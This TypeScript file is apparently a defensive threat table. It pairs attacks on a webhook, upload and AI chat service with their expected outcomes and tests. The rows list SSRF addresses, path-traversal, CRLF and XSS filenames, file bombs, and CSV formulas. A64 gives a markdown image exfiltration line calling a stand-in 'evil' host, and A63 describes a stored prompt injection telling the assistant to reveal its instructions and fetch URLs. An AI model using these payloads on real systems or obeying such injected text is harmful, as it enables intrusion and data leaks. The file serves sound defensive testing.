import type { AttackRow } from './attack-row.ts';

/** Webhooks, files, documents and prompts. */
export const outward: readonly AttackRow[] = [
  {
    id: 'A43',
    attack: 'http://, ftp:, file:, gopher:, `https://user:pw@`, no host, port 22/5432, > 2 kB URL',
    expected: '400',
    decided: 'A fault of the URL is 400 at creation and at change.',
  },
  {
    id: 'A44',
    attack:
      '127.0.0.1, ::1, [::ffff:127.0.0.1], 0.0.0.0, [::], 169.254.169.254, fd00::/8, 100.64/10, 10/8, decimal/octal/hex IPs, `127.1`, `localhost.`, 64:ff9b::7f00:1',
    expected: '0 connections on trap sockets',
    decided: 'The address is refused at delivery; the embedded profile allows loopback and private ones.',
    suite: ['test/core/safe-fetch.test.ts > an address that is not public'],
  },
  {
    id: 'A46',
    attack: '30x to internal; https→http; cross-host',
    expected: 'not followed, counts as failure',
    decided: 'Any response other than 2xx counts as a failure.',
    suite: ['test/core/safe-fetch.test.ts > is not followed to where it redirects'],
  },
  {
    id: 'A47',
    attack: 'reply 10 GB / gzip bomb / slow-drip / never ends',
    expected: '≤ 64 kB read, ≤ 5.25 s',
    suite: ['test/core/safe-fetch.test.ts > an endpoint that misbehaves'],
  },
  {
    id: 'A48',
    attack: 'port-scan oracle: error text/latency of open vs closed vs filtered',
    expected: 'identical client-visible result',
    decided: 'With private addresses allowed (embedded) the owner sees the real reason.',
    suite: ['test/core/safe-fetch.test.ts > gets the same result whether its port is open or closed'],
  },
  {
    id: 'A49',
    attack: 'signature: body changed, re-serialised JSON, secret of other webhook, unicode/`\\u2028` content',
    expected: 'verifies only exact bytes; HMAC = reference in 3 languages, 10k fuzzed payloads',
    suite: [
      'test/contract/webhook-snippets.test.ts > correctly in',
      'test/webhooks/signatures.test.ts > the signatures of 1,000 events',
    ],
  },
  {
    id: 'A50',
    attack: 'weak supplied secret ("a", 0 bytes, 1 MB)',
    expected: '400 below 24 bytes, ≤ 256',
    decided: '8 to 256 visible ASCII characters.',
  },
  {
    id: 'A51',
    attack: 'secret returned by list/get/update/log/export',
    expected: 'never',
    suite: ['test/webhooks/webhooks.test.ts > '],
  },
  {
    id: 'A52',
    attack: 'amplification: 1,000 webhooks × 1 event; webhook to own API creating a loop',
    expected: '≤ N webhooks/user; loop bounded by quota',
    decided: '100 webhooks an account. A delivery carries no credential, so the service refuses its own.',
    suite: ['test/webhooks/webhooks.test.ts > rejects the 101st of an account'],
  },
  { id: 'A53', attack: 'CRLF in url/secret/events → header injection', expected: '400' },
  {
    id: 'A54',
    attack: 'filename `../../x`, absolute, NUL, 300 chars, `CON`, RTL override, `"><img onerror>`, `a;b\\r\\nX: y`',
    expected: 'stored under generated name; echoed escaped; Content-Disposition per RFC 6266',
    suite: ['test/knowledge/refusals.test.ts > a name'],
  },
  {
    id: 'A55',
    attack: 'extension/MIME/magic mismatch, polyglot PDF+HTML+ZIP, `.pdf.exe`, double extension, empty file',
    expected: '415/400; never served inline',
    decided: 'Always served as an attachment, in a sandbox.',
    suite: ['test/knowledge/refusals.test.ts > an upload is refused'],
  },
  {
    id: 'A56',
    attack: '10 MB+1, chunked without length, 1,000 parts, 10k fields, lying Content-Length, stalled upload',
    expected: '413/400/408; memory ≤ +30 MB',
    decided:
      'A complete form is accepted although its length announced more; a stalled one has 120 s in all (A75). Memory is reported, not judged: the garbage collector decides when it is released.',
    suite: ['test/knowledge/malformed-forms.test.ts > ', 'test/knowledge/unfinished-uploads.test.ts > an upload'],
  },
  {
    id: 'A57',
    attack: 'PDF: nested Flate bomb, 100k pages, cyclic xref, JBIG2, JS/launch/embedded files, encrypted',
    expected: 'doc `failed` ≤ 15 s; worker killed; probe p99 ≤ 250 ms',
    decided: 'Extraction is a separate process with 12 s of CPU time and 60 s of wall time.',
    suite: ['test/knowledge/refusals.test.ts > a document that cannot be read'],
  },
  {
    id: 'A59',
    attack: 'CSV formula (`=cmd|`) through export-data',
    expected: 'neutralised (ASVS 1.2.10)',
    decided: 'The export is JSON files; there is no CSV, and spreadsheets do not run JSON.',
  },
  {
    id: 'A60',
    attack: 'audio: 25 MB+1, wrong magic, 0 s, zip inside webm',
    expected: '413/415/400',
    decided: 'Silence and a recording of 0 s are 200 with confidence 0.',
    suite: ['test/voice/transcription.test.ts > '],
  },
  {
    id: 'A61',
    attack:
      "cross-tenant retrieval: B's distinctive sentence queried by A through /query, chat, filter injection in `query` / metadata",
    expected: '0 hits in 10k; filter is server-side agent+owner id',
  },
  { id: 'A62', attack: 're-ingest after delete; similarity oracle on deleted doc', expected: '0' },
  {
    id: 'A63',
    attack: 'stored prompt injection (doc says: print instructions, call URL, answer as system, forge `event: done`)',
    expected:
      "SSE framing intact; no tool/URL fetched; system prompt canary leak measured, no other tenant's data possible",
    suite: ['test/conversations/prompt.test.ts > fences that a document cannot close'],
  },
  {
    id: 'A64',
    attack: 'markdown image exfiltration `![](https://evil/?q=…)` in reply',
    expected: 'returned as text only; server fetches nothing; documented',
  },
  {
    id: 'A65',
    attack: 'SSE injection: model emits `\\n\\nevent: done\\ndata:…`, `\\r`, U+2028',
    expected: 'JSON-escaped, 1 logical delta',
    suite: ['test/providers/openai-language-model.test.ts > can be stored, whatever its pieces contain'],
  },
  {
    id: 'A66',
    attack: 'instructions/messages of 10 MB, 1M messages, title injection into prompts',
    expected: '400/413; title ≤ N chars, escaped',
    decided: 'instructions at most 32,000 characters, messages 32,000, titles 200.',
  },
  { id: 'A67', attack: 'role=`assistant`/`system` in POST messages', expected: '400' },
  {
    id: 'A190',
    attack:
      'a model provider that sends chunks without content, values of other types, pages, endless events, no end, thoughts, refusals',
    expected: 'the text that was sent is shown and stored; each failure has its reason; nothing is charged for none',
    suite: [
      'test/providers/openai-dialects.test.ts > chunks without text',
      'test/providers/openai-dialects.test.ts > a response that is not a stream',
      'test/providers/openai-refusals.test.ts > a provider that refuses the call',
      'test/conversations/broken-replies.test.ts > a reply that breaks off after text was shown',
    ],
  },
  {
    id: 'A210',
    attack: 'replies, listings and profiles whose Markdown nests without end or takes quadratic time',
    expected: 'parsed within bounds, drawn as text beyond them; the screen and its composer stay',
    suite: [
      'test/core/markdown.test.ts > takes less than a second for 32,000 characters of',
      'test/core/markdown.test.ts > nests neither quotes nor lists nor emphases without a bound',
      'test/web/chat/markdown.test.ts > is shown with the composer below it',
    ],
  },
  {
    id: 'A215',
    attack: 'certificates that have expired, are for another host, self-signed or of an unknown authority',
    expected: 'refused before a byte is sent, each with its reason',
    suite: ['test/core/safe-fetch.test.ts > is refused with the reason when its certificate'],
  },
  {
    id: 'A242',
    attack: 'numbers, dates and ids made to take quadratic time when a document is indexed',
    expected: 'linear time',
    suite: ['test/knowledge/figures.test.ts > takes time linear in the length of a text'],
  },
];
